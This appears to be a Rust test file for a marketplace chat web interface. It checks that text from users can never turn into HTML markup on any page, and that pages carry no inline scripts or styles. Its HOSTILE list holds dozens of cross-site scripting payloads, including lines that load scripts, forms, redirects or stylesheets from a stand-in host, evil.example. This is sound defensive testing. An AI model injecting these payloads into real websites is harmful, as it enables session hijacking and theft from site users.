//! Text from outside is never markup: every field of every page that shows some is filled with what would be, and what
//! browsers would make of the page must be the same as with harmless text.

use std::sync::Arc;

use prilavok_domain::{
    Attachment, BusinessId, CampaignId, Chat, ChatId, ChatStatus, ChatType, Context, Customer, FileId,
    FileName, Message, MessageId, MessageText, Name, OrderId, PublicId, ReturnId, Sender, Timestamp,
};
#[path = "hostile/marketplace.rs"]
mod marketplace;

use prilavok_pages::conversation::{Beside, Card, Conversation, Messages, News};
use prilavok_pages::counter::Counter;
use prilavok_pages::frame::Reader;
use prilavok_pages::inbox::{Filter, List, ListPart, Part, Row};
use prilavok_pages::replies::{Replies, Reply, ReplyPage};
use prilavok_pages::sign_in::{Hint, SignIn};
use prilavok_pages::trouble::{Problem, Trouble, TroublePage, TroublePart};
use prilavok_pages::{Audience, Frame, Language, Theme};

/// What has run in somebody's page before.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg/onload=alert`1`>",
    "<math><mtext></table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=//evil.example><button>x",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "x\" style=\"position:fixed;inset:0",
    "`onmouseover=alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--",
    "]]><script>alert(1)</script>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "{{ 7 * 7 }}",
    "{% include \"layout.html\" %}",
    "${alert(1)}",
    "https://a.example/\"onmouseover=\"alert(1)",
    "https://a.example/'><script>alert(1)</script>",
    "https://a.example/<img src=x onerror=alert(1)>",
    "http://javascript:alert(1)@a.example/",
    "https://a.example/#</a><script>alert(1)</script>",
    "javascript://a.example/%0aalert(1)",
    "\u{202E}tpircs\u{202C}<b>",
];

/// The pages with a text in every field that shows one, and by whatever name.
fn pages(hostile: &str) -> Vec<(&'static str, String)> {
    let when = Timestamp::from_millis(1_800_000_000_000).expect("in range");
    let name = Name::new(hostile.replace('\t', " ")).expect("a name");
    let chat = Chat {
        business: BusinessId::new(1).expect("an id"),
        id: ChatId::new(1).expect("an id"),
        context: Context::Return {
            returned: ReturnId::new(3).expect("an id"),
            order: OrderId::new(2).expect("an id"),
            campaign: CampaignId::new(4).expect("an id"),
        },
        customer: Arc::new(Customer {
            public_id: PublicId::new(hostile.replace('\t', " ").chars().take(100).collect::<String>())
                .expect("an id"),
            name,
            erased_at: None,
        }),
        kind: ChatType::Arbitrage,
        status: ChatStatus::WaitingForPartner,
        created_at: when,
        updated_at: when,
        last_message: None,
    };
    let message = |id: i64, text: Option<&str>| Message {
        id: MessageId::new(id).expect("an id"),
        created_at: when,
        sender: Sender::Customer,
        text: text.map(|text| MessageText::new(text).expect("a text")),
        files: [
            ("image/png", None),
            ("text/html", None),
            ("image/png", Some(when)),
        ]
        .map(|(media_type, removed_at)| Attachment {
            id: FileId::new(id).expect("an id"),
            name: FileName::from_client(&format!("x{hostile}")),
            size: 5,
            media_type: media_type.to_owned(),
            removed_at,
        })
        .into(),
    };
    let messages = || vec![message(5, Some(hostile)), message(6, None)];
    let replies = || {
        vec![Reply {
            id: 7,
            name: hostile.to_owned(),
            text: hostile.to_owned(),
        }]
    };
    let frame = || Frame {
        language: Language::En,
        theme: Theme::System,
        here: hostile.to_owned(),
        reader: Some(Reader {
            audience: Audience::Seller,
            name: hostile.to_owned(),
            csrf: "token".to_owned(),
        }),
    };
    let row = |text, found: &[bool]| Row {
        chat: chat.clone(),
        last: Some(message(6, text)),
        unread: true,
        current: false,
        found: found
            .iter()
            .map(|found| Part {
                text: hostile.to_owned(),
                found: *found,
            })
            .collect(),
    };
    let list = || List {
        filter: Filter {
            words: hostile.to_owned(),
            ..Filter::default()
        },
        rows: vec![
            row(Some(hostile), &[]),
            row(None, &[]),
            row(Some(hostile), &[true, false]),
        ],
        more: Some("1-1".to_owned()),
        first: false,
        searchable: true,
        incomplete: true,
        now: when,
    };
    let conversation = || Conversation {
        chat: chat.clone(),
        messages: messages(),
        earlier: true,
        card: Card {
            store: Some(hostile.to_owned()),
            beside: vec![Beside {
                chat: chat.clone(),
                messages: messages(),
            }],
            verdict: Some(marketplace::verdict(hostile)),
        },
        may_write: true,
        replies: replies(),
        once: "once".to_owned(),
        query: String::new(),
    };
    let of_operator = marketplace::pages(hostile, &frame, &chat, &messages);
    let trouble = |problem: fn(String) -> Problem| Trouble::Invalid(problem(hostile.to_owned()));
    let shown = |view: &dyn askama::DynTemplate| view.dyn_render().expect("a page");
    let mut pages = vec![
        (
            "counter",
            shown(&Counter {
                frame: frame(),
                list: list(),
                conversation: Some(conversation()),
            }),
        ),
        (
            "list",
            shown(&ListPart {
                frame: frame(),
                list: list(),
            }),
        ),
        (
            "news",
            shown(&News {
                frame: frame(),
                conversation: conversation(),
            }),
        ),
        (
            "messages",
            shown(&Messages {
                frame: frame(),
                messages: messages(),
                earlier: true,
            }),
        ),
        (
            "replies",
            shown(&Replies {
                frame: frame(),
                replies: replies(),
                may_write: true,
            }),
        ),
        (
            "replies, reading",
            shown(&Replies {
                frame: frame(),
                replies: replies(),
                may_write: false,
            }),
        ),
        (
            "reply",
            shown(&ReplyPage {
                frame: frame(),
                reply: replies().remove(0),
                may_write: true,
            }),
        ),
        (
            "reply, reading",
            shown(&ReplyPage {
                frame: frame(),
                reply: replies().remove(0),
                may_write: false,
            }),
        ),
        (
            "sign in",
            shown(&SignIn {
                frame: frame(),
                audience: Audience::Operator,
                hint: Some(Hint::Unknown),
                next: hostile.to_owned(),
            }),
        ),
        (
            "trouble",
            shown(&TroublePage {
                frame: frame(),
                trouble: trouble(Problem::FileTooLarge),
                home: "/ui/",
            }),
        ),
        (
            "trouble, a part",
            shown(&TroublePart {
                frame: frame(),
                trouble: trouble(Problem::FileEmpty),
            }),
        ),
        (
            "trouble, an id",
            shown(&TroublePart {
                frame: frame(),
                trouble: Trouble::Internal(hostile.to_owned()),
            }),
        ),
        (
            "trouble, a PING",
            shown(&TroublePart {
                frame: frame(),
                trouble: trouble(Problem::Ping),
            }),
        ),
    ];
    pages.extend(of_operator);
    pages
}

/// The tags of a page as a browser finds them, with the names of their attributes. Links in text are left out: how many
/// there are is up to the text; what is in them is checked.
fn tags(html: &str) -> Vec<String> {
    const LINK: [&str; 4] = ["a", "target", "rel", "href"];
    let mut found = Vec::new();
    let mut rest = html;
    let mut in_link = false;
    while let Some(at) = rest.find('<') {
        let (tag, after) = read_tag(&rest[at..]);
        rest = after;
        if tag == LINK {
            in_link = true;
            continue;
        }
        if in_link && tag == ["/a"] {
            in_link = false;
            continue;
        }
        found.push(tag.join(" "));
    }
    found
}

/// The name of a tag and of its attributes, and what comes behind it. Attributes must be in double quotes or bare.
fn read_tag(html: &str) -> (Vec<&str>, &str) {
    let mut names = Vec::new();
    let mut rest = &html[1..];
    loop {
        rest = rest.trim_start();
        if let Some(after) = rest.strip_prefix('>') {
            return (names, after);
        }
        let end = rest
            .find(|c: char| c.is_whitespace() || matches!(c, '=' | '>'))
            .expect("a whole tag");
        names.push(&rest[..end]);
        rest = &rest[end..];
        if let Some(value) = rest.strip_prefix("=\"") {
            let end = value.find('"').expect("a whole value");
            let (name, value) = (names[names.len() - 1], &value[..end]);
            if matches!(name, "href" | "src" | "action") {
                let ours = value.starts_with('/') || value.starts_with('#') || value.starts_with('?');
                let scheme = value.split(':').next().unwrap_or_default().to_ascii_lowercase();
                assert!(ours || scheme == "http" || scheme == "https", "{name}={value}");
            }
            rest = &rest[3 + end..];
        } else {
            assert!(!rest.starts_with('='), "a value without quotes: {names:?}");
        }
    }
}

#[test]
fn text_from_outside_never_becomes_markup() {
    let harmless = pages("harmless");
    for hostile in HOSTILE {
        for ((name, page), (_, harmless)) in pages(hostile).iter().zip(&harmless) {
            assert_eq!(tags(page), tags(harmless), "{name} with {hostile}");
        }
    }
}

#[test]
fn the_text_is_shown_wherever_it_belongs() {
    for (name, page) in pages("nobody-else-says-this") {
        let times = page.matches("nobody-else-says-this").count();
        // Each place is one that somebody thought of; a new one is to be thought of too.
        let expected = match name {
            "desk" => 36,
            "counter" => 37,
            "dispute" => 31,
            "news" => 19,
            "request" => 13,
            "requests" => 10,
            "messages" => 11,
            "business" => 9,
            "deliveries" => 7,
            "reply" | "subscription" => 6,
            "reply, reading" => 5,
            "list" => 12,
            "replies" | "replies, reading" | "audit" => 4,
            "sign in" | "trouble" | "businesses" | "new key" | "limits" => 3,
            "disputes" => 2,
            _ => 1,
        };
        assert_eq!(times, expected, "{name}");
    }
}

#[test]
fn no_page_has_a_script_or_a_style_in_it() {
    for (name, page) in pages("harmless") {
        for tag in tags(&page) {
            let mut names = tag.split(' ');
            let element = names.next().unwrap_or_default();
            assert!(
                element != "style" && names.clone().all(|it| it != "style" && !it.starts_with("on")),
                "{name}: {tag}"
            );
            assert!(
                element != "script" || names.any(|it| it == "src"),
                "{name}: {tag}"
            );
        }
    }
}
